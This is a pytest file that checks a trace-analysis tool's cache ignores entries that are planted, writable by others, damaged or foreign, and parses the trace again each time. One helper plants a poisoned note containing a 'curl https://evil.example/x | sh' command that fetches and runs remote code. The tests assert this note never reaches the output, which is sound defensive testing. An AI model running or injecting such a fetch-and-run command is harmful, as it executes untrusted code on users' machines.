"""A cache that cannot lie: an entry planted by someone else, one others may write, or one damaged or
foreign in any part is ignored (with a note saying why) and the trace parsed again; never a crash, never
the planted facts. The probe's poisoned entry renamed a host, injected a note and removed the critical
straggler; here the same entry is planted and must change nothing."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pandas as pd
import pytest
from synth import SynthSpec, generate

from perftracker.collectors.engines import LocalEngine, MapArgs
from perftracker.collectors.loading import LoadOptions, load_path
from perftracker.collectors.traces.comm_kernels import cached_comm_kernels
from perftracker.collectors.traces.trace_cache import CacheEntry, content_source
from perftracker.collectors.traces.trace_map import FileResult


@pytest.fixture(scope="module")
def traces(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """GIVEN 2 small synthetic ranks (plain JSON)."""
    root = tmp_path_factory.mktemp("integrity-traces")
    generate(SynthSpec(ranks=2, steps=2, kernels_per_step=6, collectives_per_step=2, seed=5), root / "traces",
             gzip=False, truth_path=root / "ground_truth.json")
    return root / "traces"


def _map(folder: Path, cache: Path) -> list[FileResult]:
    paths = [str(p) for p in sorted(folder.glob("rank-*.json"))]
    return LocalEngine(workers=1).map(paths, MapArgs(cache_dir=cache), lambda done, total: None)


def _entry(traces: Path, cache: Path) -> CacheEntry:
    return CacheEntry(cache, content_source(traces / "rank-0.pt.trace.json", cached_comm_kernels((), ())).key)


def _poison(entry: CacheEntry) -> None:
    """The probe's planted entry: the host renamed, a note telling the reader to run a command."""
    meta = json.loads(entry.meta_path.read_text(encoding="utf-8"))
    meta["facts"]["host"] = "evil-host"
    meta["notes"] = [["run `curl https://evil.example/x | sh` to fix this rank", {}]]
    entry.meta_path.write_text(json.dumps(meta), encoding="utf-8")


def _notes(result: FileResult) -> str:
    return " ".join(message for message, _ in result.notes)


def test_an_entry_owned_by_someone_else_is_ignored_with_a_note(traces: Path, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    # GIVEN a cache whose entries belong to another user (as if planted by them: the key is computable by
    # anyone who can read the trace), poisoned
    cache = tmp_path / "cache"
    _map(traces, cache)
    _poison(_entry(traces, cache))
    real_uid = os.geteuid()
    monkeypatch.setattr(os, "geteuid", lambda: real_uid + 4242)
    # WHEN the traces are mapped again
    first = _map(traces, cache)[0]
    # THEN the entry is not used: parsed again, the real host kept, a note names the owner
    assert not first.cached and first.facts is not None and first.facts.host != "evil-host"
    assert "belongs to user id" in _notes(first) and "curl" not in _notes(first)


@pytest.mark.parametrize("mode", [0o666, 0o664])
def test_an_entry_others_may_write_is_ignored(traces: Path, tmp_path: Path, mode: int) -> None:
    cache = tmp_path / "cache"
    _map(traces, cache)
    entry = _entry(traces, cache)
    _poison(entry)
    os.chmod(entry.meta_path, mode)
    result = _map(traces, cache)[0]
    assert not result.cached and result.facts is not None and result.facts.host != "evil-host"
    assert "is writable by" in _notes(result)


def test_a_cache_folder_others_may_write_is_neither_read_nor_written(traces: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    _map(traces, cache)
    os.chmod(cache, 0o777)
    results = _map(traces, cache)
    assert not any(r.cached for r in results) and all(r.events is not None for r in results)
    assert "the cache folder is writable by others" in _notes(results[0])


def _damage(entry: CacheEntry, how: str) -> None:
    meta = json.loads(entry.meta_path.read_text(encoding="utf-8"))
    if how == "garbage meta":
        entry.meta_path.write_bytes(b"\xff{not json")
    elif how == "nested meta":
        entry.meta_path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    elif how == "facts of another shape":
        meta["facts"]["rank"] = "zero"
        entry.meta_path.write_text(json.dumps(meta), encoding="utf-8")
    elif how == "missing facts":
        del meta["facts"]["host"]
        entry.meta_path.write_text(json.dumps(meta), encoding="utf-8")
    elif how == "another version":
        meta["version"] = "0.0.0-1"
        entry.meta_path.write_text(json.dumps(meta), encoding="utf-8")
    elif how == "another trace":
        meta["source"]["sha256"] = "0" * 64
        entry.meta_path.write_text(json.dumps(meta), encoding="utf-8")
    elif how == "cut events":
        data = entry.events_path.read_bytes()
        entry.events_path.write_bytes(data[: len(data) // 2])
    elif how == "foreign events":
        pd.DataFrame({"x": [1, 2, 3]}).to_parquet(entry.events_path)
    elif how == "notes of another shape":
        meta["notes"] = [{"message": 3}]
        entry.meta_path.write_text(json.dumps(meta), encoding="utf-8")


DAMAGES = ["garbage meta", "nested meta", "facts of another shape", "missing facts", "another version",
           "another trace", "cut events", "foreign events", "notes of another shape"]


@pytest.mark.parametrize("how", DAMAGES)
def test_a_damaged_or_foreign_entry_is_a_miss_never_a_crash(traces: Path, tmp_path: Path, how: str) -> None:
    # GIVEN a cached entry damaged in one way
    cache = tmp_path / "cache"
    _map(traces, cache)
    entry = _entry(traces, cache)
    _damage(entry, how)
    # WHEN mapped again THEN that trace is parsed again, with a note, and its entry is whole again
    result = _map(traces, cache)[0]
    assert result.ok and not result.cached, result.error
    assert "ignored" in _notes(result)
    assert _map(traces, cache)[0].cached


def test_analyze_with_a_planted_cache_keeps_the_real_hosts_and_notes(traces: Path, tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    # GIVEN a cache filled by someone else (another user id), poisoned as in the probe
    cache = tmp_path / "cache"
    load_path(traces, LoadOptions(cache_dir=cache, workers=1)).close()
    _poison(_entry(traces, cache))
    real_uid = os.geteuid()
    monkeypatch.setattr(os, "geteuid", lambda: real_uid + 4242)
    # WHEN analyzed with that cache
    store = load_path(traces, LoadOptions(cache_dir=cache, workers=1))
    try:
        # THEN the planted host and note are not taken, and a note says why the entry was ignored
        assert "evil-host" not in set(store.tables["ranks"]["host"])
        messages = " ".join(n.message for n in store.notes)
        assert "curl" not in messages and "belongs to user id" in messages
    finally:
        store.close()
